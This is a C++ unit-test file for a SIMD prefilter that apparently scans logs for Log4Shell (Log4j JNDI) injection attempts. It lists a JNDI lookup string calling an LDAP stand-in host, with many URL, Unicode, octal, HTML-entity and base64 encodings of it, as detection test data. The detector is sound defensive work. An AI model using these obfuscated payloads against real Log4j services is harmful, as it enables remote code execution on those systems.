#include "hunt/prefilter.h"

#include <gtest/gtest.h>

#include <cctype>
#include <random>
#include <algorithm>
#include <string>

#include "hunt/decoders.h"

namespace l4s::hunt {
namespace {

TEST(PrefilterTest, Triggers) {
  for (const char* s : {"${jndi:", "$%7Bjndi", "$%257bjndi", "%24%7B", "%2524%257B", "%252524%25257b", "%u0024%u007B",
                        "%U0024{", "\\u0024\\u007b", "\\\\u0024{", "\\x24%7b", "\\044\\173", "\\\\44{", "&#36;&#123;",
                        "&#036;{", "&#x24;&lbrace;", "&#X0024;&LCUB;", "&dollar;{", "&DOLLAR;%7B", "$&lbrace;",
                        "$&#x7b;", "$\\u007B", "%24%5Cu007b", "JHtqbmRpOmxkYXA6", "Basic dXNlcjoke2puZGk6", "xSR7anything"}) {
    EXPECT_TRUE(has_trigger(s)) << s;
    std::string padded = std::string(37, 'x') + s + std::string(20, 'y');  // exercise the SIMD path
    EXPECT_EQ(find_trigger(padded), 37u + find_trigger(s)) << s;
  }
}

TEST(PrefilterTest, CleanText) {
  for (const char* s : {"GET /index.html HTTP/1.1 200 512 \"Mozilla/5.0 (X11; Linux x86_64)\"",
                        "100% done; price $5 & tax", "C:\\Users\\x", "JSON JHX R7 aR7", "&amp; &#35; %23 %2 $",
                        "2021-12-10T10:00:00Z INFO [main] Started",
                        // A '$' in any encoding without a '{' after it starts no lookup.
                        "GET /odata/People?$filter=a&%24top=5&%24skip=10 HTTP/1.1", "total %2450.00 $HOME $1",
                        "%24, \\u0024x, &#36;; &dollar;x", "DataNode$PacketResponder"}) {
    EXPECT_FALSE(has_trigger(s)) << s;
  }
}

TEST(PrefilterTest, FindsEveryOccurrenceInOrder) {
  std::string s = std::string(100, 'a') + "${x}" + std::string(50, 'b') + "%24{" + std::string(3, 'c') + "&#36;{";
  size_t p = find_trigger(s);
  EXPECT_EQ(p, 100u);
  p = find_trigger(s, p + 1);
  EXPECT_EQ(p, 154u);
  p = find_trigger(s, p + 1);
  EXPECT_EQ(p, 161u);
  EXPECT_EQ(find_trigger(s, p + 1), std::string_view::npos);
}

// Every transport encoding the decoders peel keeps a trigger on the line.
TEST(PrefilterTest, EncodedPayloadsKeepATrigger) {
  std::string payload = "${jndi:ldap://x.example/a}";
  auto each = [&](const char* fmt) {
    std::string out;
    for (unsigned char c : payload) {
      char buf[16];
      std::snprintf(buf, sizeof buf, fmt, c);
      out += buf;
    }
    return out;
  };
  for (const std::string& s : {each("%%%02X"), each("%%25%02X"), each("%%u%04X"), each("\\u%04x"), each("\\x%02x"),
                               each("\\%03o"), each("&#%d;"), each("&#x%x;")}) {
    EXPECT_TRUE(has_trigger(s)) << s;
    ASSERT_FALSE(peel_layers(s).empty()) << s;
    EXPECT_EQ(peel_layers(s).back().text, payload) << s;
  }
  // base64 at the first two alignments of "${".
  EXPECT_TRUE(has_trigger("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0="));   // "${jndi:ldap://x.example/a}"
  EXPECT_TRUE(has_trigger("YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9"));   // "a${jndi:ldap://x.example/a}"
  EXPECT_TRUE(has_trigger("dXNlcjoke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ=="));  // "user:${jndi:ldap://x.example/a}"
  EXPECT_FALSE(has_trigger("the smoke woke me"));
  EXPECT_FALSE(has_trigger("/search?q=kernel+smoke+test&page=3"));
}

// The SIMD scan agrees with a byte-by-byte reading of the rules on random
// text dense in trigger bytes, at every alignment.
TEST(PrefilterTest, MatchesScalarReference) {
  auto lower = [](char c) { return static_cast<char>(std::tolower(static_cast<unsigned char>(c))); };
  auto at = [&](const std::string& s, size_t p, std::string_view lit) {
    if (p + lit.size() > s.size()) return false;
    for (size_t i = 0; i < lit.size(); ++i) {
      if (lower(s[p + i]) != lit[i]) return false;
    }
    return true;
  };
  // A '{' in some encoding at s[q].
  auto brace = [&](const std::string& s, size_t q) {
    size_t r;
    if (at(s, q, "{")) return true;
    if (at(s, q, "%")) {
      for (r = q + 1; at(s, r, "25"); r += 2) {}
      return at(s, r, "7b") || at(s, r, "u007b") || at(s, r, "5c") || at(s, r, "26");
    }
    if (at(s, q, "\\")) {
      for (r = q + 1; at(s, r, "\\"); ++r) {}
      return at(s, r, "u007b") || at(s, r, "x7b") || at(s, r, "173");
    }
    if (at(s, q, "&#x")) {
      for (r = q + 3; at(s, r, "0"); ++r) {}
      return at(s, r, "7b");
    }
    if (at(s, q, "&#")) {
      for (r = q + 2; at(s, r, "0"); ++r) {}
      return at(s, r, "123");
    }
    return at(s, q, "&lbrace;") || at(s, q, "&lcub;");
  };
  auto semi_brace = [&](const std::string& s, size_t q) { return brace(s, at(s, q, ";") ? q + 1 : q); };
  auto reference = [&](const std::string& s) -> size_t {
    for (size_t p = 0; p < s.size(); ++p) {
      size_t q;
      switch (s[p]) {
        case '$':
          if (brace(s, p + 1)) return p;
          break;
        case '%':
          for (q = p + 1; at(s, q, "25"); q += 2) {}
          if ((at(s, q, "24") && brace(s, q + 2)) || (at(s, q, "u0024") && brace(s, q + 5))) return p;
          break;
        case '\\':
          for (q = p + 1; at(s, q, "\\"); ++q) {}
          if ((at(s, q, "u0024") && brace(s, q + 5)) || (at(s, q, "x24") && brace(s, q + 3)) ||
              (at(s, q, "044") && brace(s, q + 3)) || (at(s, q, "44") && brace(s, q + 2))) {
            return p;
          }
          break;
        case '&':
          if (at(s, p + 1, "#x")) {
            for (q = p + 3; at(s, q, "0"); ++q) {}
            if (at(s, q, "24") && semi_brace(s, q + 2)) return p;
          } else if (at(s, p + 1, "#")) {
            for (q = p + 2; at(s, q, "0"); ++q) {}
            if (at(s, q, "36") && semi_brace(s, q + 2)) return p;
          } else if (at(s, p + 1, "dollar;") && brace(s, p + 8)) {
            return p;
          }
          break;
        case 'J':
          if (p + 2 < s.size() && s[p + 1] == 'H' && s[p + 2] >= 's' && s[p + 2] <= 'v') return p;
          break;
        case 'k':
          if (p > 0 && p + 1 < s.size() && s[p + 1] == 'e' &&
              std::string_view("048AEIMQUYcgkosw").find(s[p - 1]) != std::string_view::npos) {
            size_t b = p, e = p;
            auto b64 = [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '+' || c == '/' || c == '-' || c == '_'; };
            while (b > 0 && b64(s[b - 1])) --b;
            while (e < s.size() && b64(s[e])) ++e;
            bool up = false, lo = false, dig = false;
            for (size_t i = b; i < e; ++i) {
              up |= std::isupper(static_cast<unsigned char>(s[i])) != 0;
              lo |= std::islower(static_cast<unsigned char>(s[i])) != 0;
              dig |= std::isdigit(static_cast<unsigned char>(s[i])) != 0;
            }
            if (e - b >= 12 && up && lo && dig) return p;
          }
          break;
        case 'R':
          if (p > 0 && p + 1 < s.size() && s[p + 1] == '7' && std::string_view("CSiy").find(s[p - 1]) != std::string_view::npos) return p;
          break;
      }
    }
    return std::string_view::npos;
  };
  std::mt19937 rng(42);
  const std::string alphabet = "$%{\\&#xXuU0247357bBdJHtRSi;a kewoK9lc1rs";
  for (int iter = 0; iter < 20000; ++iter) {
    std::string s(rng() % 64, ' ');
    for (char& c : s) c = alphabet[rng() % alphabet.size()];
    ASSERT_EQ(find_trigger(s), reference(s)) << s;
  }
}

TEST(PrefilterTest, SimdAgreesWithScalar) {
  // Random text dense in scanned bytes and their second bytes, at every alignment.
  std::mt19937 rng(7);
  const std::string alphabet = "$%&\\JRk{2uUxX04#dDH7e5a ./:\nlcb1;";
  for (int round = 0; round < 300; ++round) {
    std::string s(1 + rng() % 300, 'a');
    for (char& c : s) c = rng() % 3 ? 'a' + rng() % 26 : alphabet[rng() % alphabet.size()];
    for (size_t from = 0; from < s.size(); from += 1 + rng() % 40) {
      size_t want = find_trigger_scalar(s, from);
      ASSERT_EQ(find_trigger(s, from), want) << s << " from " << from;
      for (SimdLevel level : {SimdLevel::kSse2, SimdLevel::kAvx2, SimdLevel::kAvx512}) {
        if (simd_level_available(level)) {
          ASSERT_EQ(find_trigger_with(level, s, from), want) << static_cast<int>(level) << ": " << s << " from " << from;
        }
      }
      if (want == std::string_view::npos) break;
    }
  }
}

// "ke" starts a trigger only after [048AEIMQUYcgkosw] inside a mixed base64
// run; the SIMD paths test the byte before it with a superset: every byte
// before a "ke", at every alignment, must give the scalar answer.
TEST(PrefilterTest, SimdAgreesWithScalarOnBase64Ke) {
  std::mt19937 rng(11);
  const std::string base64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_";
  for (int round = 0; round < 3000; ++round) {
    std::string s(1 + rng() % 200, 'A');
    for (char& c : s) c = base64[rng() % base64.size()];
    for (int k = 0; k < 4; ++k) {  // "ke" after any byte at all
      size_t at = 1 + rng() % s.size();
      s.insert(at, std::string(1, static_cast<char>(rng() % 256)) + "ke");
    }
    if (round % 2) s[rng() % s.size()] = ' ';
    for (size_t from = 0; from < s.size(); from += 1 + rng() % 70) {
      size_t want = find_trigger_scalar(s, from);
      for (SimdLevel level : {SimdLevel::kSse2, SimdLevel::kAvx2, SimdLevel::kAvx512}) {
        if (simd_level_available(level)) {
          ASSERT_EQ(find_trigger_with(level, s, from), want) << static_cast<int>(level) << ": " << s << " from " << from;
        }
      }
    }
  }
}

TEST(PrefilterTest, CountNewlines) {
  EXPECT_EQ(count_newlines(""), 0u);
  EXPECT_EQ(count_newlines("\n"), 1u);
  // Long enough for the 255-step counter flush, with a tail and odd alignments.
  std::string s;
  size_t want = 0;
  for (int i = 0; i < 20000; ++i) {
    s += (i % 7 == 0) ? '\n' : static_cast<char>('a' + i % 26);
    want += i % 7 == 0;
  }
  s += std::string(5000, '\n');
  want += 5000;
  EXPECT_EQ(count_newlines(s), want);
  for (size_t off = 0; off < 20; ++off) {
    std::string_view v = std::string_view(s).substr(off, s.size() - 2 * off);
    EXPECT_EQ(count_newlines(v), static_cast<size_t>(std::count(v.begin(), v.end(), '\n')));
  }
}

}  // namespace
}  // namespace l4s::hunt
